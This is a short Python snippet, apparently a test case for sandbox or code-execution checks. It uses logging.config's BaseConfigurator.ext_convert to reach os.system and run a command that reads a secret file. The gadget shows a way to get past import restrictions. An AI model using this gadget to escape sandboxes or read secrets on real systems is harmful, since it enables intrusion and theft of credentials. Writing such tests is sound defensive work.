# The configurator's own resolver, its conversion "ext://".
# effect: run
import logging.config
logging.config.BaseConfigurator({}).ext_convert("os.system")("cat @SECRET@")
